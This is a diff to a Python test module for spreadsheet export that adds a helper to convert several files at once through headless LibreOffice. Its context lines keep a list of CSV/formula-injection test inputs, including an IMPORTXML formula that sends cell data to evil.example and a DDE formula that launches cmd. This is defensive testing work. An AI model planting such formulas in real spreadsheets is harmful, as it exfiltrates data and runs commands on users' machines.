@@ -27,7 +27,7 @@ INJECTIONS = (
     "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")", "%0A=1+1", '=DDE("cmd";"/C calc";"x")',
 )  # fmt: skip
 # What spreadsheets are known to bend: section by section digits, dates, logic, signs, blanks.
-SPELLED = ("_x000D_", "_x005F_x0041_")  # as Excel spells signs; LibreOffice 7.4 saves them as what they spell
+SPELLED = ("_x000D_", "_x005F_x0041_")  # as Excel spells signs; LibreOffice 7.4 loses one layer of the second
 AWKWARD = (
     "007", "0049170123", "00123", "1.50", "1,5", "12345678901234567890", "7300712345678901234567", "1E05",
     "1e5", "6.28E+12", "0x1F", "1_000", "1 000", "١٢٣", "½", "3/4", "1-2", "2026-11-22", "22.11.2026",
@@ -43,13 +43,18 @@ with_libreoffice = pytest.mark.skipif(soffice is None, reason="LibreOffice is no
 
 def saved_by_libreoffice(path: Path, ending: str = "xlsx") -> Path:
     """The file as LibreOffice saves it after opening it."""
+    return all_saved_by_libreoffice([path], ending)[0]
+
+
+def all_saved_by_libreoffice(paths: Sequence[Path], ending: str = "xlsx") -> list[Path]:
+    """The files of one folder as LibreOffice saves them after opening them, by one start of it."""
     assert soffice
-    folder, home = path.parent / "saved", path.parent / "libreoffice"
+    folder, home = paths[0].parent / f"saved as {ending}", paths[0].parent / "libreoffice"
     command = [soffice, f"-env:UserInstallation={home.as_uri()}", "--headless", "--convert-to", ending]
     subprocess.run(
-        [*command, "--outdir", str(folder), str(path)], check=True, capture_output=True, timeout=100
+        [*command, "--outdir", str(folder), *map(str, paths)], check=True, capture_output=True, timeout=300
     )
-    return folder / f"{path.stem}.{ending}"
+    return [folder / f"{path.stem}.{ending}" for path in paths]
 
 
 def cells_of(path: Path, title: str) -> list[dict[str, Any]]:
